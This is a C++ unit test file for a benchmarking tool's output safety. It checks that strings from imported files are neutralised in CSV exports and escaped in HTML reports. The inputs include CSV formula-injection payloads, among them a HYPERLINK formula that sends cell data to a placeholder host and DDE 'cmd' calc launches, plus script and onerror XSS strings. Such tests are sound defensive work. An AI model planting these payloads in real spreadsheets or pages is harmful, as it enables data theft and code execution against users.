// Output safety: strings that came from imported files are data wherever Plimsoll writes
// them again. A spreadsheet must not run a cell as a formula; a browser must not run a
// run key as markup.
#include "security/securitysupport.h"

#include <gtest/gtest.h>

#include <QFile>
#include <QTemporaryDir>

#include <string>
#include <vector>

namespace plimsoll::test {
namespace {

// Cells a spreadsheet would evaluate (OWASP's list: = + - @, and tab / CR before them).
const std::vector<std::string> kFormulas = {
    "=HYPERLINK(\"http://x.invalid/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"};

std::string jsonString(const std::string &s)
{
    std::string out = "\"";
    for (char c : s) {
        if (c == '"' || c == '\\')
            out += '\\';
        if (c == '\t') {
            out += "\\t";
            continue;
        }
        if (c == '\r') {
            out += "\\r";
            continue;
        }
        out += c;
    }
    return out + "\"";
}

// The string without its control characters: run keys and scenario names with them are
// refused at import, so those carry the formula (still leading) without the tab or CR.
std::string withoutControls(const std::string &s)
{
    std::string out;
    for (char c : s)
        if (static_cast<unsigned char>(c) >= 0x20)
            out += c;
    return out;
}

// One run per hostile string, each in run_key, commit, target and scenario name.
std::string hostileTrend(const std::vector<std::string> &values)
{
    std::string text;
    int i = 0;
    for (const std::string &raw : values) {
        const std::string v = withoutControls(raw);
        for (int step = 1; step <= 4; ++step) {
            text += R"({"format":"plimsoll-trend/1","run_key":)" + jsonString(v + " #" + std::to_string(i)) +
                    R"(,"timestamp":"2026-02-0)" + std::to_string(1 + i % 9) +
                    R"(T00:00:00Z","commit":)" + jsonString(raw) + R"(,"target":)" + jsonString(raw) +
                    R"(,"tuning":{"acks":)" + jsonString(raw) + R"(},"scenario":)" +
                    jsonString(v + "/step-" + std::to_string(step)) +
                    R"(,"topology":{"producers":)" + std::to_string(step) +
                    R"(},"metrics":{"records_per_s":)" + std::to_string(1000 * step + i) +
                    R"(,"broker_cpu_avg":0.)" + std::to_string(2 * step) + R"(,"shard_cpu_max":0.)" +
                    std::to_string(2 * step) + R"(,"latency_p99_s":0.00)" + std::to_string(step) + "}}\n";
        }
        ++i;
    }
    return text;
}

// RFC 4180 cells of one CSV text.
std::vector<std::string> csvCells(const std::string &csv)
{
    std::vector<std::string> cells;
    std::string cell;
    bool quoted = false, inQuotes = false;
    for (size_t i = 0; i < csv.size(); ++i) {
        const char c = csv[i];
        if (inQuotes) {
            if (c == '"' && i + 1 < csv.size() && csv[i + 1] == '"') {
                cell += '"';
                ++i;
            } else if (c == '"') {
                inQuotes = false;
            } else {
                cell += c;
            }
        } else if (c == '"' && cell.empty() && !quoted) {
            inQuotes = quoted = true;
        } else if (c == ',' || c == '\n') {
            cells.push_back(cell);
            cell.clear();
            quoted = false;
        } else {
            cell += c;
        }
    }
    if (!cell.empty())
        cells.push_back(cell);
    return cells;
}

bool isNumber(const std::string &s)
{
    if (s.empty())
        return false;
    char *end = nullptr;
    std::strtod(s.c_str(), &end);
    return end == s.c_str() + s.size();
}

TEST(SecurityOutput, CsvExportsNeverStartACellWithAFormula)
{
    QTemporaryDir dir;
    const QString db = dir.filePath("store.db");
    const QString file = dir.filePath("hostile.jsonl");
    ASSERT_TRUE(writeText(file, hostileTrend(kFormulas)));
    const CliRun imported = runPlimsoll({"--db", db, "import", file});
    ASSERT_EQ(imported.exitCode, 0) << imported.err;

    int checkedFormats = 0;
    for (const char *format : {"otava-csv", "csv"}) {
        const QString out = dir.filePath(QString("export.%1").arg(format));
        const CliRun r = runPlimsoll({"--db", db, "export", "--format", format, "--out", out});
        ASSERT_EQ(r.exitCode, 0) << format << ": " << r.err;
        QFile f(out);
        ASSERT_TRUE(f.open(QIODevice::ReadOnly));
        const std::string csv = f.readAll().toStdString();
        int hostileSeen = 0;
        for (const std::string &cell : csvCells(csv)) {
            if (cell.find("cmd|") != std::string::npos || cell.find("HYPERLINK") != std::string::npos ||
                cell.find("1+1") != std::string::npos)
                ++hostileSeen;
            if (cell.empty() || isNumber(cell))
                continue;
            const char c = cell[0];
            EXPECT_FALSE(c == '=' || c == '+' || c == '-' || c == '@' || c == '\t' || c == '\r')
                << format << ": cell a spreadsheet would evaluate: " << cell;
        }
        EXPECT_GT(hostileSeen, 0) << format << ": the hostile strings did not reach the export";
        ++checkedFormats;
    }
    EXPECT_EQ(checkedFormats, 2);
}

TEST(SecurityOutput, HtmlReportEscapesImportedStrings)
{
    QTemporaryDir dir;
    const QString db = dir.filePath("store.db");
    const QString file = dir.filePath("markup.jsonl");
    const std::vector<std::string> markup = {"<script>alert('plimsoll')</script>",
                                             "<img src=x onerror=alert(1)>"};
    ASSERT_TRUE(writeText(file, hostileTrend(markup)));
    ASSERT_EQ(runPlimsoll({"--db", db, "import", file}).exitCode, 0);
    // The samples give the sizing its ramp; the report then lists every run in the store,
    // the hostile ones among them.
    ASSERT_EQ(runPlimsoll({"--db", db, "samples", "install"}).exitCode, 0);
    const QString html = dir.filePath("report.html");
    const CliRun r = runPlimsoll({"--db", db, "report", "--format", "html", "--out", html,
                                  "--rate", "100k"},
                                 300);
    ASSERT_EQ(r.exitCode, 0) << r.err;
    QFile f(html);
    ASSERT_TRUE(f.open(QIODevice::ReadOnly));
    const std::string text = f.readAll().toStdString();
    EXPECT_EQ(text.find("<script>alert"), std::string::npos) << "a run key became markup";
    EXPECT_EQ(text.find("<img src=x"), std::string::npos) << "a run key became markup";
    EXPECT_NE(text.find("&lt;script&gt;alert"), std::string::npos)
        << "the run key did not reach the report, so this test shows nothing";
    EXPECT_NE(text.find("&lt;img src=x"), std::string::npos)
        << "the run key did not reach the report, so this test shows nothing";
}

} // namespace
} // namespace plimsoll::test
